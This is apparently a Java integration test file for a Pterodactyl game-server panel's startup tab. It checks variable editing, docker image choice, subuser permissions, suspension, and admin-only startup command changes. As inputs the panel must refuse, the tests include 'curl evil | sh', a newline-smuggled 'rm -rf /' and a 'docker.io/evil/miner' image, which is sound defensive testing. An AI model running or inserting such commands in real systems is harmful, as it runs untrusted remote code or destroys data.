package io.pteroca.panel.server;

import static org.assertj.core.api.Assertions.assertThat;

import io.pteroca.emulator.state.Server;
import io.pteroca.panel.account.AccountView;
import io.pteroca.panel.account.Accounts;
import io.pteroca.panel.account.Role;
import io.pteroca.panel.catalog.PeriodUnit;
import io.pteroca.panel.catalog.PriceKind;
import io.pteroca.panel.catalog.PriceTerms;
import io.pteroca.panel.catalog.ProductDefinition;
import io.pteroca.panel.catalog.ProductView;
import io.pteroca.panel.order.Checkout;
import io.pteroca.panel.order.OrderForm;
import io.pteroca.panel.support.IntegrationTest;
import io.pteroca.panel.support.TestPterodactyl;
import io.pteroca.panel.support.WebSession;
import java.math.BigDecimal;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;

/**
 * The startup tab: variables the egg and the product both allow, checked by the egg's rules before Pterodactyl;
 * the docker image among the egg's only when the product allows it; the startup command changed by admins only.
 */
class StartupTabTest extends IntegrationTest {

    private static final String UPDATE_VARIABLE = "PUT /api/client/servers/{server}/startup/variable";

    @Autowired
    ApplicationContext context;
    @Autowired
    GameServerRepository servers;
    @Autowired
    ServerAdministration administration;

    private ServerFixtures fixtures;

    @BeforeEach
    void fixtures() {
        fixtures = new ServerFixtures(context);
    }


    private String variable(long serverId, String env) {
        Server server = fixtures.inPterodactyl(serverId);
        synchronized (TestPterodactyl.emulator().state()) {
            return server.variables.get(env);
        }
    }

    private static int calls(String endpoint) {
        return TestPterodactyl.emulator().counters().snapshot().getOrDefault(endpoint, 0);
    }

    /** The form of one variable on the startup page. */
    private static String variableForm(String page, String env) {
        Matcher form = Pattern.compile("(?s)<form[^>]*id=\"variable-" + env + "\".*?</form>").matcher(page);
        return form.find() ? form.group() : "";
    }

    /** Paper: the product shows the jar file read-only, hides the build number, and would show the egg's hidden path. */
    private ProductView paperPlan(boolean customerChooses) {
        ProductDefinition.EggChoice paper = ProductDefinition.EggChoice.defaultsOf(fixtures.egg("Paper"), null);
        List<ProductDefinition.Variable> variables = paper.variables().stream().map(v -> switch (v.envVariable()) {
            case "SERVER_JARFILE" -> new ProductDefinition.Variable(v.envVariable(), v.name(), v.value(), v.rules(), true, false, false);
            case "BUILD_NUMBER" -> new ProductDefinition.Variable(v.envVariable(), v.name(), v.value(), v.rules(), false, true, false);
            case "DL_PATH" -> new ProductDefinition.Variable(v.envVariable(), v.name(), v.value(), v.rules(), true, true, false);
            default -> v;
        }).toList();
        return fixtures.product(List.of(new ProductDefinition.EggChoice(paper.eggId(), paper.eggName(), null, customerChooses, null,
                customerChooses, variables)), false, ServerFixtures.monthly("1"));
    }



    @Test
    void variablesShowAndChangeOnlyWhereEggAndProductAllowAndBadValuesNeverReachPterodactyl() {
        AccountView owner = fixtures.customer("1");
        long id = fixtures.activeServer(owner, paperPlan(true), "Startup SMP");
        WebSession web = fixtures.signedIn(owner);

        assertThat(web.get("/servers/" + id).body()).contains("id=\"startup-link\"");
        String page = web.get("/servers/" + id + "/startup").body();
        assertThat(variableForm(page, "MINECRAFT_VERSION")).contains("value=\"latest\"").contains("type=\"submit\"");
        assertThat(page).as("the egg's rules in words, not Laravel's").contains("Allowed:").contains("at most 20 characters")
                .doesNotContain("max:20").doesNotContain("|string");
        assertThat(variableForm(page, "SERVER_JARFILE")).as("read-only by the product").contains("readonly")
                .doesNotContain("type=\"submit\"");
        assertThat(page).as("hidden by the product").doesNotContain("BUILD_NUMBER")
                .as("hidden by the egg").doesNotContain("DL_PATH")
                .contains("id=\"startup-command\"").contains("{{SERVER_JARFILE}}")
                .contains("id=\"image-form\"").contains("ghcr.io/pterodactyl/yolks:java_17");

        web.post("/servers/" + id + "/startup/variable", Map.of("key", "MINECRAFT_VERSION", "value", " 1.20.4 "));
        assertThat(variable(id, "MINECRAFT_VERSION")).isEqualTo("1.20.4");
        assertThat(web.get("/servers/" + id + "/startup").body()).contains("The variable was saved");

        int updates = calls(UPDATE_VARIABLE);
        web.post("/servers/" + id + "/startup/variable", Map.of("key", "MINECRAFT_VERSION", "value", "x".repeat(21)));
        assertThat(web.get("/servers/" + id + "/startup").body())
                .contains("The value for Minecraft Version is not accepted: at most 20 characters.");
        web.post("/servers/" + id + "/startup/variable", Map.of("key", "SERVER_JARFILE", "value", "evil.jar"));
        assertThat(web.get("/servers/" + id + "/startup").body()).contains("This variable cannot be changed here.");
        for (String hidden : List.of("BUILD_NUMBER", "DL_PATH", "NO_SUCH_VARIABLE")) {
            web.post("/servers/" + id + "/startup/variable", Map.of("key", hidden, "value", "1"));
            assertThat(web.get("/servers/" + id + "/startup").body()).contains("This variable cannot be changed here.");
        }
        assertThat(calls(UPDATE_VARIABLE)).as("refused before Pterodactyl is asked").isEqualTo(updates);
        assertThat(variable(id, "MINECRAFT_VERSION")).isEqualTo("1.20.4");
        assertThat(variable(id, "SERVER_JARFILE")).isEqualTo("server.jar");
        assertThat(variable(id, "BUILD_NUMBER")).isEqualTo("latest");

        web.post("/servers/" + id + "/startup/image", Map.of("image", "ghcr.io/pterodactyl/yolks:java_17"));
        assertThat(fixtures.inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_17");
        assertThat(web.get("/servers/" + id + "/startup").body()).contains("The docker image was changed")
                .contains("<option value=\"ghcr.io/pterodactyl/yolks:java_17\" selected=\"selected\">");
        web.post("/servers/" + id + "/startup/image", Map.of("image", "docker.io/evil/miner:latest"));
        assertThat(web.get("/servers/" + id + "/startup").body()).contains("Choose one of the egg&#39;s docker images.");
        assertThat(fixtures.inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_17");
        assertThat(web.get("/servers/" + id).body()).contains("Variable changed").contains("Docker image changed");
    }

    @Test
    void subusersNeedTheirPermissionsStrangersSeeNothingAndASuspendedServerRefuses() {
        AccountView owner = fixtures.customer("1");
        AccountView reader = fixtures.customer("0");
        AccountView editor = fixtures.customer("0");
        AccountView other = fixtures.customer("0");
        AccountView stranger = fixtures.customer("0");
        long id = fixtures.activeServer(owner, paperPlan(true), "Shared startup");
        WebSession ownerWeb = fixtures.signedIn(owner);
        ServerFixtures.share(ownerWeb, id, reader, "startup.read");
        ServerFixtures.share(ownerWeb, id, editor, "startup.read", "startup.update");
        ServerFixtures.share(ownerWeb, id, other, "backup.read");

        WebSession readerWeb = fixtures.signedIn(reader);
        assertThat(readerWeb.get("/servers/" + id).body()).contains("id=\"startup-link\"");
        String page = readerWeb.get("/servers/" + id + "/startup").body();
        assertThat(variableForm(page, "MINECRAFT_VERSION")).contains("readonly").doesNotContain("type=\"submit\"");
        assertThat(page).as("no startup.docker-image").doesNotContain("id=\"image-form\"");
        int calls = TestPterodactyl.totalCalls();
        assertThat(readerWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "MINECRAFT_VERSION", "value", "1.8"))
                .status()).isEqualTo(403);
        assertThat(readerWeb.post("/servers/" + id + "/startup/image", Map.of("image", "ghcr.io/pterodactyl/yolks:java_8"))
                .status()).isEqualTo(403);
        WebSession otherWeb = fixtures.signedIn(other);
        assertThat(otherWeb.get("/servers/" + id).body()).doesNotContain("id=\"startup-link\"");
        assertThat(otherWeb.get("/servers/" + id + "/startup").status()).isEqualTo(403);
        WebSession strangerWeb = fixtures.signedIn(stranger);
        assertThat(strangerWeb.get("/servers/" + id + "/startup").status()).isEqualTo(404);
        strangerWeb.get("/servers");
        assertThat(strangerWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "MINECRAFT_VERSION", "value", "1.8"))
                .status()).isEqualTo(404);
        assertThat(TestPterodactyl.totalCalls()).as("refused before Pterodactyl is asked").isEqualTo(calls);
        assertThat(variable(id, "MINECRAFT_VERSION")).isEqualTo("latest");
        assertThat(fixtures.inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_21");

        // startup.update changes variables, never the startup command: that is an admin's page only.
        WebSession editorWeb = fixtures.signedIn(editor);
        editorWeb.get("/servers/" + id + "/startup");
        editorWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "MINECRAFT_VERSION", "value", "1.21"));
        assertThat(variable(id, "MINECRAFT_VERSION")).isEqualTo("1.21");
        String startup = fixtures.inPterodactyl(id).startup;
        editorWeb.get("/servers/" + id + "/startup");
        assertThat(editorWeb.post("/admin/servers/" + id + "/startup", Map.of("startup", "curl evil | sh")).status())
                .isEqualTo(403);
        editorWeb.get("/servers/" + id + "/startup");
        editorWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "STARTUP", "value", "curl evil | sh"));
        assertThat(fixtures.inPterodactyl(id).startup).isEqualTo(startup);

        administration.suspend(id, "Checking a complaint", owner.id());
        ownerWeb.get("/servers/" + id + "/startup");
        int updates = calls(UPDATE_VARIABLE);
        ownerWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "MINECRAFT_VERSION", "value", "1.8"));
        assertThat(ownerWeb.get("/servers/" + id + "/startup").body()).contains("While the server is suspended, nothing of it can be shown or changed here");
        assertThat(calls(UPDATE_VARIABLE)).isEqualTo(updates);
        assertThat(variable(id, "MINECRAFT_VERSION")).isEqualTo("1.21");
        assertThat(ownerWeb.get("/servers/" + id).body()).doesNotContain("id=\"startup-link\"");
    }

    @Test
    void aPlanWithoutChoicesHidesTheCommandAndImagesAndTheSlotVariableStaysAsPaid() {
        ProductDefinition.EggChoice paper = ProductDefinition.EggChoice.defaultsOf(fixtures.egg("Paper"), "BUILD_NUMBER");
        ProductView product = fixtures.product(List.of(paper), false,
                new PriceTerms(PriceKind.PER_SLOT, 1, PeriodUnit.MONTHS, new BigDecimal("0.10"), 2, 20));
        AccountView owner = fixtures.customer("1");
        long id = context.getBean(Checkout.class).purchase(owner.id(), new OrderForm(product.id(), product.prices().get(0).id(),
                paper.eggId(), "Slotted", 4, false, Map.of(), null, UUID.randomUUID().toString(), null));
        fixtures.workUntil(() -> fixtures.state(id) == ServerState.ACTIVE, "the slotted server");
        assertThat(variable(id, "BUILD_NUMBER")).isEqualTo("4");

        WebSession web = fixtures.signedIn(owner);
        String page = web.get("/servers/" + id + "/startup").body();
        assertThat(variableForm(page, "BUILD_NUMBER")).contains("value=\"4\"").contains("readonly");
        assertThat(page).doesNotContain("id=\"startup-command\"").doesNotContain("id=\"image-form\"");
        web.post("/servers/" + id + "/startup/variable", Map.of("key", "BUILD_NUMBER", "value", "64"));
        assertThat(web.get("/servers/" + id + "/startup").body()).contains("This variable cannot be changed here.");
        web.post("/servers/" + id + "/startup/image", Map.of("image", "ghcr.io/pterodactyl/yolks:java_17"));
        assertThat(web.get("/servers/" + id + "/startup").body()).contains("This plan does not let you choose the docker image.");
        assertThat(variable(id, "BUILD_NUMBER")).isEqualTo("4");
        assertThat(fixtures.inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_21");
    }

    @Test
    void onlyAnAdminChangesTheStartupCommandAuditedAndLogged() {
        AccountView owner = fixtures.customer("1");
        long id = fixtures.activeServer(owner, paperPlan(true), "Admin startup");
        AccountView admin = context.getBean(Accounts.class).createVerified(
                "startup-admin-" + UUID.randomUUID().toString().substring(0, 6) + "@example.test", "Ad", "Min",
                ServerFixtures.PASSWORD, Role.ADMIN, "test");
        WebSession web = fixtures.signedIn(admin);
        String before = fixtures.inPterodactyl(id).startup;
        assertThat(web.get("/admin/servers/" + id).body()).contains("id=\"admin-startup-form\"").contains(before.substring(0, 20));

        String command = "java -Xms128M -jar {{SERVER_JARFILE}} nogui";
        web.post("/admin/servers/" + id + "/startup", Map.of("startup", command));
        assertThat(fixtures.inPterodactyl(id).startup).isEqualTo(command);
        assertThat(servers.findById(id).orElseThrow().plan().startup()).isEqualTo(command);
        assertThat(variable(id, "SERVER_JARFILE")).as("variables kept").isEqualTo("server.jar");
        for (String bad : List.of("   ", "java -jar x\nrm -rf /", "x".repeat(5001))) {
            web.get("/admin/servers/" + id);
            web.post("/admin/servers/" + id + "/startup", Map.of("startup", bad));
            assertThat(web.get("/admin/servers/" + id).body()).contains("The startup command must be 1 to 5000 characters");
        }
        assertThat(fixtures.inPterodactyl(id).startup).isEqualTo(command);
        assertThat(web.get("/admin/audit?email=" + admin.email()).body()).contains("Server startup changed");
        assertThat(web.get("/admin/servers/" + id).body()).contains("Startup command changed");

        WebSession ownerWeb = fixtures.signedIn(owner);
        assertThat(ownerWeb.get("/servers/" + id + "/startup").body()).contains("nogui");
        assertThat(ownerWeb.post("/admin/servers/" + id + "/startup", Map.of("startup", "sh")).status()).isEqualTo(403);
        assertThat(fixtures.inPterodactyl(id).startup).isEqualTo(command);
    }
}
